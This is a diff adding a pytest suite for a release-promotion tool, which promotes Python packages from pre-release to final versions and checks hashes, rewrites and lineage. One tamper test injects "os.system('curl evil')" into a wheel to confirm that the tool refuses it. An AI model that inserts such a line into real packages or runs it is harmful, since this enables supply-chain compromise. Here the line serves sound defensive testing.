@@ -1,0 +1,374 @@
+"""``releasegate promote`` on real builds: hatchling (static version) and setuptools with
+setuptools-scm (VCS version in a real git repository), promoted, served by a real pypiserver,
+installed by pip and imported."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import hashlib
+import io
+import json
+import os
+import subprocess
+import sys
+import tarfile
+import zipfile
+from typing import TYPE_CHECKING
+
+import pytest
+
+from releasegate._internal.archives import Limits, read_archive
+from releasegate._internal.errors import UsageError
+from releasegate._internal.promote.payload import Layout, digest
+from releasegate._internal.promote.versions import promotion, spellings
+from tests.conftest import run_cli
+from tests.publish_support import copy_into, pip_install, start_pypiserver, wait_http
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+    from pathlib import Path
+
+    from tests.conftest import GitRepo
+    from tests.publish_support import Server
+
+LABELS = ("dev", "alpha", "beta", "rc")
+
+HATCH_PYPROJECT = """\
+[build-system]
+requires = ["hatchling"]
+build-backend = "hatchling.build"
+
+[project]
+name = "promo-demo"
+version = "1.4.0rc2"
+description = "A project promoted by the releasegate tests."
+requires-python = ">=3.8"
+
+[tool.hatch.build.targets.wheel]
+packages = ["src/promo_demo"]
+"""
+
+SCM_PYPROJECT = """\
+[build-system]
+requires = ["setuptools>=64", "setuptools-scm>=8"]
+build-backend = "setuptools.build_meta"
+
+[project]
+name = "scm-demo"
+dynamic = ["version"]
+description = "A VCS-versioned project promoted by the releasegate tests."
+
+[tool.setuptools_scm]
+version_file = "src/scm_demo/_version.py"
+{extra}
+"""
+
+READS_METADATA = 'from importlib.metadata import version\n\n__version__ = version("{name}")\n'
+
+
+# ---------------------------------------------------------------- version steps (fast)
+
+
+@pytest.mark.parametrize(
+    ("source", "to", "expected"),
+    [
+        ("1.4.0rc2", "1.4.0", "1.4.0"),
+        ("1.4.0rc2", "final", "1.4.0"),
+        ("1.4.0b3", "rc", "1.4.0rc3"),
+        ("1.4.0.dev5", "1.4.0-rc.1", "1.4.0rc1"),
+        ("1.4.0a1", "1.4.0b1", "1.4.0b1"),
+    ],
+)
+def test_promotion_moves_forward_in_the_label_order(source: str, to: str, expected: str) -> None:
+    assert promotion(source, to, LABELS).target == expected
+
+
+@pytest.mark.parametrize(
+    ("source", "to", "words"),
+    [
+        ("1.4.0rc2", "beta", "forward"),
+        ("1.4.0rc2", "1.4.0rc1", "forward"),
+        ("1.4.0rc2", "1.4.1", "keeps 1.4.0"),
+        ("1.4.0rc2", "1.5.0", "keeps 1.4.0"),
+        ("1.4.0", "1.4.0", "already a final"),
+    ],
+)
+def test_promotion_never_goes_backwards_or_changes_the_release(
+    source: str, to: str, words: str
+) -> None:
+    with pytest.raises(UsageError, match=words):
+        promotion(source, to, LABELS)
+
+
+def test_every_spelling_of_the_version_is_known() -> None:
+    assert spellings("1.4.0rc2") == ("1.4.0rc2", "1.4.0-rc.2", "(1, 4, 0, 'rc2')")
+    assert promotion("1.4.0rc2", "1.4.0", LABELS).forms() == (
+        ("1.4.0rc2", "1.4.0"),
+        ("1.4.0-rc.2", "1.4.0"),
+        ("(1, 4, 0, 'rc2')", "(1, 4, 0)"),
+    )
+
+
+# ---------------------------------------------------------------- real builds (slow)
+
+
+def _build(root: Path, *, isolated: bool = False) -> list[Path]:
+    args = [sys.executable, "-m", "build", "--outdir", str(root / "dist"), str(root)]
+    if not isolated:
+        args.insert(3, "--no-isolation")
+    env = {**os.environ, "PIP_CONFIG_FILE": os.devnull, "SOURCE_DATE_EPOCH": "1700000000"}
+    completed = subprocess.run(args, capture_output=True, text=True, check=False, env=env)
+    assert completed.returncode == 0, completed.stdout + completed.stderr
+    return sorted((root / "dist").iterdir())
+
+
+def _hatch_project(root: Path, init: str) -> list[Path]:
+    (root / "src" / "promo_demo").mkdir(parents=True)
+    (root / "pyproject.toml").write_text(HATCH_PYPROJECT, encoding="utf-8")
+    (root / "src" / "promo_demo" / "__init__.py").write_text(init, encoding="utf-8")
+    (root / "src" / "promo_demo" / "data.bin").write_bytes(os.urandom(200_000))
+    (root / "CHANGELOG.md").write_text("# Changes\n\n## 1.4.0rc2\n\n- first\n", encoding="utf-8")
+    return _build(root)
+
+
+@pytest.fixture(scope="module")
+def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    server = start_pypiserver(tmp_path_factory.mktemp("pypi"), "staging", "pw-promote-Zq8")
+    try:
+        wait_http(server.index_url, server.process)
+        yield server
+    finally:
+        server.stop()
+
+
+def _archive(path: Path) -> tuple[Layout, str]:
+    kind = "wheel" if path.name.endswith(".whl") else "sdist"
+    stem, version = path.name.removesuffix(".tar.gz").split("-")[:2]
+    archive = read_archive(path, Limits(keep_content=Limits().max_total))
+    assert not archive.problems, archive.problems
+    layout = Layout(kind, stem, version, ("src/scm_demo/_version.py",))
+    return layout, digest(archive, layout)
+
+
+def _installed_record_matches(target: Path, dist_info: str) -> None:
+    """What pip installed is what the promoted RECORD says, file by file."""
+    record = (target / dist_info / "RECORD").read_text(encoding="utf-8")
+    for row in csv.reader(io.StringIO(record)):
+        if not row or not row[1]:
+            continue
+        algorithm, _, value = row[1].partition("=")
+        data = (target / row[0]).read_bytes()
+        found = base64.urlsafe_b64encode(hashlib.new(algorithm, data).digest()).rstrip(b"=")
+        assert found.decode() == value, row[0]
+
+
+def _installed_version(target: Path, name: str, module: str) -> list[str]:
+    code = (
+        "import importlib.metadata as m, importlib\n"
+        f"print(m.version({name!r})); print(importlib.import_module({module!r}).__version__)"
+    )
+    completed = subprocess.run(
+        [sys.executable, "-c", code],
+        capture_output=True,
+        text=True,
+        check=True,
+        env={**os.environ, "PYTHONPATH": str(target)},
+    )
+    return completed.stdout.split()
+
+
+def _install_and_check(
+    registry: Server, promoted: list[Path], tmp: Path, name: str, module: str
+) -> None:
+    for path in promoted:
+        copy_into(registry, path)
+    target = tmp / "site"
+    installed = pip_install(registry.index_url, f"{name}==1.4.0", target)
+    assert installed.returncode == 0, installed.stderr
+    dist_info = next(p.name for p in target.glob("*.dist-info"))
+    assert dist_info == f"{module}-1.4.0.dist-info"
+    _installed_record_matches(target, dist_info)
+    assert _installed_version(target, name, module) == ["1.4.0", "1.4.0"]
+
+
+@pytest.mark.slow
+def test_hatchling_static_version_promoted_then_installed_from_a_registry(
+    tmp_path: Path, registry: Server
+) -> None:
+    root = tmp_path / "project"
+    sources = _hatch_project(root, READS_METADATA.format(name="promo-demo"))
+    result = run_cli("promote", "--to", "1.4.0", "--outdir", "release", cwd=root)
+    assert result.returncode == 0, result.stdout + result.stderr
+    promoted = sorted((root / "release").iterdir())
+    assert [p.name for p in promoted] == [
+        "promo_demo-1.4.0-py3-none-any.whl",
+        "promo_demo-1.4.0.tar.gz",
+    ]
+    for source, result_path in zip(sources, promoted, strict=True):
+        assert _archive(source)[1] == _archive(result_path)[1]
+    with zipfile.ZipFile(promoted[0]) as wheel:
+        before = zipfile.ZipFile(sources[0])
+        assert [i.filename.replace("1.4.0rc2", "1.4.0") for i in before.infolist()][:-1] == [
+            i.filename for i in wheel.infolist() if "promotion" not in i.filename
+        ][:-1]
+        record = json.loads(wheel.read("promo_demo-1.4.0.dist-info/releasegate-promotion.json"))
+    assert record["source"]["version"] == "1.4.0rc2"
+    assert record["source"]["sha256"] == hashlib.sha256(sources[0].read_bytes()).hexdigest()
+    assert record["payload_digest"] == _archive(sources[0])[1]
+    audit = (root / ".releasegate" / "publish-audit.jsonl").read_text(encoding="utf-8")
+    assert json.loads(audit)["artifacts"][0]["payload_digest"] == record["payload_digest"]
+    with tarfile.open(promoted[1]) as sdist:
+        pyproject = sdist.extractfile("promo_demo-1.4.0/pyproject.toml")
+        assert pyproject is not None
+        assert 'version = "1.4.0"' in pyproject.read().decode()
+    _install_and_check(registry, promoted, tmp_path, "promo-demo", "promo_demo")
+    # A rebuild from the promoted sdist yields the promoted version.
+    unpacked = tmp_path / "unpacked"
+    with tarfile.open(promoted[1]) as sdist:
+        sdist.extractall(unpacked, filter="data")
+    rebuilt = _build(unpacked / "promo_demo-1.4.0")
+    assert "promo_demo-1.4.0-py3-none-any.whl" in [p.name for p in rebuilt]
+
+
+@pytest.mark.slow
+def test_a_payload_stating_the_version_is_refused_with_file_and_line(tmp_path: Path) -> None:
+    root = tmp_path / "project"
+    _hatch_project(root, '"""Demo."""\n\n__version__ = "1.4.0rc2"\n')
+    result = run_cli("promote", "--to", "1.4.0", "--format", "json", cwd=root)
+    assert result.returncode == 1, result.stdout + result.stderr
+    found = {
+        (f["path"], f["line"])
+        for r in json.loads(result.stdout)["checks"]
+        for f in r["findings"]
+        if f["rule"] == "promote/embedded-version"
+    }
+    assert found == {("promo_demo/__init__.py", 3), ("src/promo_demo/__init__.py", 3)}
+    assert not list((root / "dist").glob("*1.4.0-*")) + list((root / "dist").glob("*1.4.0.tar*"))
+    # Listed to rewrite: exactly the version changes, and the diff is recorded.
+    with (root / "pyproject.toml").open("a", encoding="utf-8") as handle:
+        handle.write('\n[tool.releasegate.promote]\nrewrite = ["src/promo_demo/__init__.py"]\n')
+    result = run_cli("promote", "--to", "1.4.0", "--outdir", "out", cwd=root)
+    assert result.returncode == 0, result.stdout + result.stderr
+    with zipfile.ZipFile(root / "out" / "promo_demo-1.4.0-py3-none-any.whl") as wheel:
+        assert wheel.read("promo_demo/__init__.py") == b'"""Demo."""\n\n__version__ = "1.4.0"\n'
+        record = json.loads(wheel.read("promo_demo-1.4.0.dist-info/releasegate-promotion.json"))
+    assert record["rewritten"][0]["path"] == "promo_demo/__init__.py"
+    assert '-__version__ = "1.4.0rc2"\n+__version__ = "1.4.0"' in record["rewritten"][0]["diff"]
+
+
+@pytest.mark.slow
+def test_a_tampered_wheel_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
+    root = tmp_path / "project"
+    wheel = _hatch_project(root, READS_METADATA.format(name="promo-demo"))[0]
+    tampered = tmp_path / "tampered.whl"
+    with zipfile.ZipFile(wheel) as source, zipfile.ZipFile(tampered, "w") as target:
+        for info in source.infolist():
+            data = source.read(info)
+            if info.filename == "promo_demo/__init__.py":
+                data += b"import os; os.system('curl evil')\n"
+            target.writestr(info, data)
+    tampered.replace(wheel)
+    result = run_cli("promote", "--to", "1.4.0", "--outdir", "out", cwd=root)
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert "promo_demo/__init__.py does not match its RECORD hash" in result.stdout
+    assert "[promote/tampered]" in result.stdout
+    assert not (root / "out").exists()
+
+
+def _scm_repo(make_repo: Callable[..., GitRepo], extra: str = "") -> GitRepo:
+    return make_repo(
+        {
+            "pyproject.toml": SCM_PYPROJECT.format(extra=extra),
+            "src/scm_demo/__init__.py": "from scm_demo._version import __version__\n",
+            ".gitignore": "src/scm_demo/_version.py\ndist/\nout/\n.releasegate/\n",
+        },
+        tag="1.4.0rc2",
+    )
+
+
+@pytest.mark.slow
+def test_setuptools_scm_version_file_is_refused_then_rewritten_when_listed(
+    tmp_path: Path, make_repo: Callable[..., GitRepo], registry: Server
+) -> None:
+    repo = _scm_repo(make_repo)
+    sources = _build(repo.root, isolated=True)
+    assert [p.name for p in sources] == [
+        "scm_demo-1.4.0rc2-py3-none-any.whl",
+        "scm_demo-1.4.0rc2.tar.gz",
+    ]
+    refused = run_cli("promote", "--to", "1.4.0", "--outdir", "out", cwd=repo.root)
+    assert refused.returncode == 1, refused.stdout + refused.stderr
+    assert "src/scm_demo/_version.py:" in refused.stdout
+    assert "scm_demo/_version.py:" in refused.stdout
+    assert not (repo.root / "out").exists()
+    repo.commit(
+        {
+            "pyproject.toml": SCM_PYPROJECT.format(
+                extra='[tool.releasegate.promote]\nrewrite = ["src/scm_demo/_version.py"]\n'
+            )
+        },
+        "list the version file",
+    )
+    result = run_cli(
+        "promote", "--to", "1.4.0", "--outdir", "out", *map(str, sources), cwd=repo.root
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+    promoted = sorted((repo.root / "out").iterdir())
+    for source, path in zip(sources, promoted, strict=True):
+        assert _archive(source)[1] == _archive(path)[1]
+    with zipfile.ZipFile(promoted[0]) as wheel:
+        record = json.loads(wheel.read("scm_demo-1.4.0.dist-info/releasegate-promotion.json"))
+        version_file = wheel.read("scm_demo/_version.py").decode()
+    assert record["commit"] == repo.git("rev-parse", "HEAD").strip()
+    assert "1.4.0rc2" not in version_file
+    assert "(1, 4, 0)" in version_file
+    _install_and_check(registry, promoted, tmp_path, "scm-demo", "scm_demo")
+    # A rebuild from the promoted sdist is 1.4.0: setuptools-scm 10 reads the version from the
+    # egg-info's scm_version.json "tag" (found on this very build), so that is rewritten too.
+    unpacked = tmp_path / "unpacked"
+    with tarfile.open(promoted[1]) as sdist:
+        sdist.extractall(unpacked, filter="data")
+    rebuilt = _build(unpacked / "scm_demo-1.4.0", isolated=True)
+    assert [p.name for p in rebuilt] == ["scm_demo-1.4.0-py3-none-any.whl", "scm_demo-1.4.0.tar.gz"]
+
+
+def _checks_of(result: subprocess.CompletedProcess[str]) -> dict[str, list[str]]:
+    report = json.loads(result.stdout)
+    return {c["check"]: [f["rule"] for f in c["findings"]] for c in report["checks"]}
+
+
+@pytest.mark.slow
+def test_verify_checks_a_promoted_artifacts_lineage(tmp_path: Path) -> None:
+    root = tmp_path / "project"
+    wheel = _hatch_project(root, READS_METADATA.format(name="promo-demo"))[0]
+    assert run_cli("promote", "--to", "1.4.0", "--outdir", "out", cwd=root).returncode == 0
+    promoted = root / "out" / "promo_demo-1.4.0-py3-none-any.whl"
+    args = (
+        "verify",
+        "--repository",
+        "o/n",
+        "--format",
+        "json",
+        str(promoted),
+        "--promoted-from",
+        str(wheel),
+    )
+    checks = _checks_of(run_cli(*args, cwd=root))
+    assert checks["lineage"] == ["lineage/lineage"]
+    assert checks["verify"] == ["verify/unsigned"]  # the source's signature is checked too
+    # Another pre-release build (same version, other bytes) is not this one's source.
+    other = _hatch_project(tmp_path / "other", READS_METADATA.format(name="promo-demo"))[0]
+    args = (
+        "verify",
+        "--repository",
+        "o/n",
+        "--format",
+        "json",
+        str(promoted),
+        "--promoted-from",
+        str(other),
+    )
+    rules = _checks_of(run_cli(*args, cwd=root))["lineage"]
+    # Named by the record? Same payload? The record's digest the source's? No, no and no.
+    assert rules == ["lineage/broken-lineage"] * 3
